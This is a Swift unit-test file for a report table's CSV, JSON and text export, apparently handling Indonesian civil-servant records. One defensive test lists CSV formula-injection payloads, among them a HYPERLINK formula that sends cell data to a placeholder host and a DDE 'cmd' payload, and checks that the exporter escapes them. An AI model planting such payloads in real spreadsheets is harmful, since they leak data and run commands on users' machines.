import KinerjaReports
import Testing

@Suite struct TableTests {
    let table = Table(columns: ["nip", "name"], rows: [["198503152010011001", "Andi, S.E."], ["2", "Siti \"Ani\""]])

    @Test func csvQuotesWhatNeedsIt() {
        #expect(table.csv() == "nip,name\r\n198503152010011001,\"Andi, S.E.\"\r\n2,\"Siti \"\"Ani\"\"\"\r\n")
        // A line break of any kind: CRLF (one Character in Swift), LF, CR.
        let broken = Table(columns: ["nip", "name"], rows: [["1", "Siti\r\nAminah"], ["2", "Budi\nSantoso"], ["3", "Ani\rWati"]])
        #expect(broken.csv() == "nip,name\r\n1,\"Siti\r\nAminah\"\r\n2,\"Budi\nSantoso\"\r\n3,\"Ani\rWati\"\r\n")
    }

    /// OWASP's list of cells a spreadsheet runs as formulas, each as the CSV writes it.
    @Test(arguments: [
        ("=HYPERLINK(\"http://x/?\"&A2,\"Klik\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"Klik\"\")\""),
        ("+62 811", "'+62 811"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "\"'\r=1+1\""),
        ("-", "-"),
        ("Budi;=HYPERLINK(\"http://x\")", "\"Budi;=HYPERLINK(\"\"http://x\"\")\""),
        ("-1.5", "-1.5"),
        ("-12,5", "\"-12,5\""),
        ("-7%", "-7%"),
        ("Andi", "Andi"),
        ("", ""),
        ("a=b", "a=b"),
    ])
    func aFormulaIsWrittenAsText(cell: String, written: String) {
        #expect(Table.csvField(cell, separator: ",") == written)
        #expect(Table(columns: ["name"], rows: [[cell]]).csv() == "name\r\n\(written)\r\n")
        #expect(Table(columns: ["name"], rows: [[cell]]).json().contains("'") == cell.contains("'"), "JSON keeps the value as it is")
    }

    @Test func textAlignsColumns() {
        #expect(table.text() == """
            nip                 name
            198503152010011001  Andi, S.E.
            2                   Siti "Ani"

            """)
    }

    @Test func jsonEscapes() {
        #expect(Table(columns: ["a"], rows: [["x\"y\n"]]).json() == "[\n  {\"a\": \"x\\\"y\\n\"}\n]\n")
        #expect(Table(columns: ["a"]).json() == "[\n]\n")
    }

    @Test func numericColumnsAreNumbersInJSON() {
        let t = Table(columns: ["nip", "pagu", "total_persen", "jumlah"],
                      rows: [["198503152010011001", "5250000", "99.6", "5229000"], ["2", "", "37.3", ""], ["3", "n/a", "-1.5", "007"]],
                      numeric: ["pagu", "total_persen", "jumlah"])
        #expect(t.json() == """
            [
              {"nip": "198503152010011001", "pagu": 5250000, "total_persen": 99.6, "jumlah": 5229000},
              {"nip": "2", "pagu": null, "total_persen": 37.3, "jumlah": null},
              {"nip": "3", "pagu": "n/a", "total_persen": -1.5, "jumlah": "007"}
            ]

            """)
        #expect(t.csv().contains("2,,37.3,\r\n"), "CSV keeps empty cells empty")
    }
}
